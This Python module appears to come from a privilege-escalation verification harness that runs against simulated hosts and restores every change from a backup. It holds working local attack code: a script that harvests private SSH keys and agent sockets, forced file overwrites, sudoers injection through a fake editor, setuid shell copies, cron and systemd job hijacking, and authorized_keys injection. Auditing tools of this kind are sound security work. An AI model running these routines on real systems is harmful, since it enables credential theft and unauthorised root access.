"""Truth about one host: what an account can read and use, and whom it can become without the network, found by doing it. Everything changed is put back."""
import filecmp
import json
import os
import re
import shutil
import stat

from hosts import BASE, must, sh
from ways import READERS, SETUID, WAYS

BOX = "/tmp/way"                            # in the host: orders, their marks, tools of the attacker
TREES = ("etc", "opt", "srv", "home", "root", "var/log")
LOOT = r'''
import os, sys, json, socket, base64
keys, certs, sockets, may = {}, {}, [], []
def could(p):
    while p != "/":
        if os.access(p, os.W_OK): return True
        p = os.path.dirname(p)
may = [p for p in json.loads(sys.argv[1]) if could(p)]
for top, dirs, files in os.walk("/"):
    if top == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "usr", "dev", "sys", "bin", "lib", "lib32", "lib64", "sbin")] + ["usr/local"]
    for f in files:
        p = os.path.join(top, f)
        try:
            m = os.lstat(p).st_mode
            if (m & 0o170000) == 0o140000 and "agent" in p:
                s = socket.socket(socket.AF_UNIX); s.connect(p); s.close(); sockets.append(p)
            elif (m & 0o170000) == 0o100000 and os.path.getsize(p) < 20000:
                t = open(p, errors="replace").read()
                if "PRIVATE KEY-----" in t: keys[p] = t
                elif "-cert-v01@" in t: certs[p] = t
        except OSError:
            pass
print(json.dumps([keys, certs, sockets, may]))
'''
WRITE = r'''
import os, sys, json
text, mode, p, instead = sys.argv[1], int(sys.argv[2], 8), sys.argv[3], sys.argv[4] == "instead"
def put(p, flag):
    fd = os.open(p, os.O_WRONLY | os.O_CREAT | flag, mode)
    os.write(fd, text.encode()); os.close(fd)
done = ""
d = p
try:
    put(p, os.O_TRUNC if instead else os.O_APPEND); done = "direct"
except OSError:
    pass
while d != "/" and not done:
    try:
        if os.path.lexists(d):
            os.rename(d, d + ".old")
        os.makedirs(os.path.dirname(p), exist_ok=True)
        put(p, 0); os.chmod(p, mode); done = "folder"
    except OSError:
        pass
    d = os.path.dirname(d)
print(done)
'''


def key_files(a):
    """Where sshd of one host or the other looks for an account's keys."""
    return [f"{a.home}/.ssh/authorized_keys", f"{a.home}/.ssh/other_keys", f"{a.home}/.ssh/inner_keys", f"/etc/ssh/keys/{a.name}"]


class Local:
    def __init__(self, host, credentials, again=""):
        self.host, self.credentials, self.count = host, credentials, sum(map(ord, again)) * 100000
        self.read = set()                   # credentials that a program run through sudo showed
        self.names = {a.uid: n for n, a in host.accounts.items()}
        self.backup = f"{BASE}/backup/{host.name}{again}"
        os.makedirs(self.backup)
        for t in TREES:
            os.makedirs(os.path.dirname(f"{self.backup}/{t}"), exist_ok=True)
            must("cp", "-a", f"{host.root}/{t}", f"{self.backup}/{t}")
        os.makedirs(host.root + BOX, exist_ok=True)
        os.chmod(host.root + BOX, 0o777)

    # ---- back to what it was
    def restore(self):
        for t in TREES:
            self._restore(f"{self.backup}/{t}", f"{self.host.root}/{t}")

    def _restore(self, good, now):
        want, have = set(os.listdir(good)), set(os.listdir(now))
        for n in have - want:
            must("rm", "-rf", "--one-file-system", f"{now}/{n}")
        for n in want:
            g, h = f"{good}/{n}", f"{now}/{n}"
            gs = os.lstat(g)
            hs = os.lstat(h) if os.path.lexists(h) else None
            if stat.S_ISDIR(gs.st_mode) and hs and stat.S_ISDIR(hs.st_mode):
                self._restore(g, h)
            elif not hs or (gs.st_mode, gs.st_size, gs.st_mtime_ns, gs.st_uid, gs.st_gid) != (hs.st_mode, hs.st_size, hs.st_mtime_ns, hs.st_uid, hs.st_gid) or (
                    stat.S_ISREG(gs.st_mode) and gs.st_size < 9000 and not filecmp.cmp(g, h, shallow=False)):
                must("rm", "-rf", "--one-file-system", h)
                must("cp", "-a", g, h)
                continue
            if (gs.st_mode, gs.st_uid, gs.st_gid) != (hs.st_mode, hs.st_uid, hs.st_gid):
                os.chown(h, gs.st_uid, gs.st_gid, follow_symlinks=False)
                os.chmod(h, stat.S_IMODE(gs.st_mode))

    # ---- what one finds
    def loot(self, account):
        """(names of credentials, files that matter and that the account could perhaps change)."""
        paths = [p for p, _ in READERS] + [p for j in self.host.jobs for p in j.paths] + [p for a in self.host.accounts.values() for p in key_files(a)]
        keys, certs, sockets, may = json.loads(self.host.python(account, LOOT, json.dumps(paths)).stdout)
        found = set()
        for text in keys.values():
            found |= self._usable(text)
        self.agent = set()                  # credentials that an agent alone gives
        for s in sockets:
            for line in self.host.run(account, "env", f"SSH_AUTH_SOCK={s}", "ssh-add", "-L").stdout.splitlines():
                self.agent.add(self.credentials.by_blob.get(line.split()[1], "?" + line))
        self.agent -= found
        found |= self.agent
        own = {self.credentials.by_blob[b]: b for b in self.credentials.by_blob if self.credentials.by_blob[b] in found}
        for text in certs.values():
            for name, f in self.credentials.file.items():
                if os.path.exists(f + "-cert.pub") and open(f + "-cert.pub", encoding="ascii").read().split()[1] == text.split()[1]:
                    if open(f + ".pub", encoding="ascii").read().split()[1] in own.values():
                        found.add(name)
        return found, set(may)

    def _usable(self, text):
        path = f"{BASE}/loot-{self.host.name}"
        with open(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600), "w", encoding="utf-8") as f:
            f.write(text)
        p = sh("ssh-keygen", "-y", "-P", "", "-f", path)
        if p.returncode:
            return set()
        name = self.credentials.by_blob.get(p.stdout.split()[1])
        return {name, f"forged-{name}"} & set(self.credentials.file) if name else set()

    # ---- orders and marks
    def order(self):
        self.count += 1
        path = f"{BOX}/{self.count}"
        with open(self.host.root + path + ".sh", "w", encoding="ascii") as f:
            f.write(f"#!/bin/bash -p\n: >{path}.mark.$EUID\n")
        os.chmod(self.host.root + path + ".sh", 0o755)
        return path + ".sh"

    def marks(self, script):
        """Accounts that ran the order."""
        n = os.path.basename(script)[:-3]
        found = set()
        for f in os.listdir(self.host.root + BOX):
            if f.startswith(n + ".mark.") and f.rsplit(".", 1)[1].isdigit():
                uid = os.stat(f"{self.host.root}{BOX}/{f}").st_uid
                if uid in self.names:
                    found.add(self.names[uid])
        return found

    def things(self, account, script):
        """What the ways' texts name."""
        box = f"{self.host.root}{BOX}/{account}"
        if not os.path.isdir(box):
            os.makedirs(box + "/folder")
            with open(box + "/sudoers", "w", encoding="ascii") as f:
                f.write(f"{account} ALL=(ALL) NOPASSWD: ALL\n")
            shutil.copy(box + "/sudoers", box + "/folder/way")
            shutil.copy(f"{self.host.root}/usr/bin/bash", box + "/shell")
            must("chmod", "-R", "go-w", box)
        b = f"{BOX}/{account}"
        return {"script": script, "order": script, "me": account, "sudoers": b + "/sudoers", "folder": b + "/folder", "shell": b + "/shell"}

    def after(self, account, script, things):
        """Ways that only prepare: what was written or changed is used now."""
        self.host.run(account, "sudo", "-n", script)
        if os.stat(self.host.root + things["shell"]).st_mode & 0o4000:
            self.host.run(account, things["shell"], "-p", "-c", script)
        with open(f"{self.host.root}/etc/passwd", encoding="utf-8") as f:
            if "zzway" in f.read():
                self.host.run(account, "su", "zzway", "-c", script, timeout=10)
        if re.search(r"^root::", self.host.read("/etc/shadow"), re.M):
            self.host.run(account, "su", "root", "-c", script, timeout=10)

    # ---- sudo
    def sudo(self, account):
        """{account: how}"""
        blank = self._blank(account)
        listed = self.host.run(account, *(["sudo", "-S", "-p", "", "-l"] if blank else ["sudo", "-n", "-l"]), input="\n")
        text = listed.stdout[listed.stdout.find("may run"):] if "may run" in listed.stdout else ""
        if not text:
            return {}
        found = {}
        for target in self._targets(text):
            for program, ways in self._programs(text):
                for way in ways:
                    if target in found:
                        break
                    for got in self._try(account, target, way, blank):
                        found.setdefault(got, f"sudo -u {target} {program}")
        return found

    def _blank(self, account):
        """Whether an empty password answers sudo: of the account, or (targetpw, rootpw) of another. Only who has one is tried."""
        shadow = dict(line.split(":")[:2] for line in self.host.read("/etc/shadow").splitlines())
        return shadow[account] == "" or ("targetpw" in self.host.run("root", "sudo", "-l", "-U", account).stdout and "" in shadow.values())

    def _targets(self, text):
        inside = ",".join(re.findall(r"^\s+\(([^)]*)\)", text, re.M))
        return list(self.host.accounts) if re.search(r"\bALL\b", inside) else [a for a in self.host.accounts if re.search(rf"(?<![\w!]){re.escape(a)}(?!\w)", inside)]

    def _programs(self, text):
        """(program, ways) for what the list names, as somebody who reads it would."""
        commands = " ".join(re.findall(r"^\s+\([^)]*\)(.*)$", text, re.M))
        if re.search(r"(?<!!)\bALL\b", commands):
            yield "ALL", [("", "DIRECT")]
        for word in dict.fromkeys(re.findall(r"(?<!!)(/[\w./-]+|sudoedit)", commands)):
            name = os.path.basename(word)
            if name in WAYS:
                yield word, WAYS[name]
            elif word.startswith("/opt/"):
                yield word, [("", "OWN", word if not word.endswith("/") else word + "own")]

    def _try(self, account, target, way, blank):
        script = self.order()
        things = self.things(account, script)
        typed, argv = way[0] % things, [a % things for a in way[1:]]
        sudo = (["sudo", "-S", "-p", ""] if blank else ["sudo", "-n"]) + ([] if target == "root" else ["-u", target])
        typed = ("\n" if blank else "") + typed
        kind = argv[0]
        if kind == "DIRECT":
            argv = [*sudo, script]
        elif kind == "OWN":
            self._write(account, argv[1], f"#!/bin/bash -p\n{script}\n", 0o755, True)
            argv = [*sudo, argv[1]]
        elif kind == "EDIT":
            editor = f"{BOX}/{account}/editor"
            with open(self.host.root + editor, "w", encoding="ascii") as f:
                f.write(f"#!/bin/sh\nfor f; do echo '{account} ALL=(ALL) NOPASSWD: ALL' >\"$f\"; done\n")
            os.chmod(self.host.root + editor, 0o755)
            argv = ["env", f"SUDO_EDITOR={editor}", *sudo, "-e", argv[1]]
        elif kind == "TTY":
            typed, argv = argv[-1], ["script", "-qec", " ".join([*sudo, *argv[1:-1]]), "/dev/null"]
        else:
            argv = [*sudo, *argv]
        p = self.host.run(account, *argv, input=typed, timeout=8)
        if kind not in ("DIRECT", "OWN") and target == "root" and not self.marks(script):
            self.after(account, script, things)
        got = self.marks(script) - {account}
        if os.path.ismount(f"{self.host.root}/etc/sudoers.d") or "mount" in argv:
            self.host.run("root", "umount", "/etc/sudoers.d")
        if kind != "DIRECT":
            self.restore()
        self.read |= self._usable(p.stdout[p.stdout.find("-----BEGIN"):].replace("\r", "")) if "PRIVATE KEY-----" in p.stdout else set()
        return got

    # ---- su
    def su(self, account, target):
        script = self.order()
        self.host.run(account, "su", target, "-s", "/bin/sh", "-c", script, input="\n", timeout=10)
        return target in self.marks(script)

    def run_as(self, target):
        """Root asks nobody."""
        script = self.order()
        self.host.run("root", "setpriv", f"--reuid={self.host.accounts[target].uid}", "--clear-groups", script)
        return target in self.marks(script)

    # ---- setuid programs and capabilities
    def privileged(self):
        text = self.host.run("root", "find", "/", "-path", "/proc", "-prune", "-o", "-path", BOX, "-prune", "-o", "-type", "f", "-perm", "/6000", "-print").stdout.split()
        caps = [line.split(" ")[0] for line in self.host.run("root", "getcap", "-r", "/opt", "/usr/local", "/srv", "/home", "/etc").stdout.splitlines()]
        stock = lambda p: p.startswith("/usr/") and not p.startswith("/usr/local")  # noqa: E731
        return [p for p in (*text, *caps) if not stock(p)]

    def setuid(self, account, program):
        found = set()
        for way in SETUID:
            script = self.order()
            self.host.run(account, program, *(a % {"script": script} for a in way), timeout=5)
            found |= self.marks(script) - {account}
        return found

    # ---- what others run or read
    def _write(self, account, path, text, mode, instead=False):
        return self.host.python(account, WRITE, text, oct(mode), path, "instead" if instead else "").stdout.strip()

    def job(self, account, job, may):
        """Accounts whose job runs what this account could write."""
        found = set()
        for path in may & set(job.paths):
            script = self.order()
            unit, cron = path.endswith(".service"), path.startswith("/etc/cron.d/")
            text = f"[Service]\nExecStart={script}\n" if unit else f"* * * * * root {script}\n" if cron else f"#!/bin/bash -p\n{script}\n"
            if self._write(account, path, text, 0o644 if unit or cron else 0o755, True):
                self.act(job)
                found |= self.marks(script) - {account}
            self.restore()
        return found

    def act(self, job):
        if job.login:
            self.host.run("root", "su", "-l", job.run_as, "-c", "true", timeout=10)
            return
        argv, who = job.argv, job.run_as
        if argv[0] == "UNIT":
            text = self.host.read(argv[1])
            argv = re.search(r"^ExecStart=(.*)$", text, re.M).group(1).split()
            user = re.search(r"^User=(.*)$", text, re.M)
            who = user.group(1) if user else "root"
        if argv[0] == "CRON":                                 # what Debian's cron takes: root's own, that nobody else may write (cron_runs() asks it)
            st = os.stat(self.host.root + argv[1])
            if st.st_uid or st.st_mode & 0o022:
                return
            argv = self.host.read(argv[1]).split()[6:]
        self.host.run(who, *argv, timeout=10)

    def files(self, account, may):
        """Files that give root by their meaning: accounts, sudo's rules."""
        found = {}
        for path, text in READERS:
            if path not in may:
                continue
            script = self.order()
            if self._write(account, path, text % {"me": account}, 0o440 if "sudoers" in path else 0o644):
                self.after(account, script, self.things(account, script))
                for got in self.marks(script) - {account}:
                    found[got] = f"writes {path}"
            self.restore()
        return found

    def socket(self, account, path):
        script = self.order()
        self.host.python(account, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\ns.send(b{script!r})\ns.recv(10)\n")
        return self.marks(script) - {account}

    def keys_written(self, account, may, login):
        """Accounts into whose file of keys one can write a key of one's own and then log in with it."""
        found, own = {}, self.credentials.file["forged-ca-lost"]
        with open(own + ".pub", encoding="ascii") as f:
            line = f.read()
        for b in self.host.accounts.values():
            for path in key_files(b) if b.name not in ("root", account) else ():
                if path in may:
                    if self._write(account, path, line, 0o600) and login(b.name, own):
                        found[b.name] = f"writes {path}"
                    self.restore()
        return found
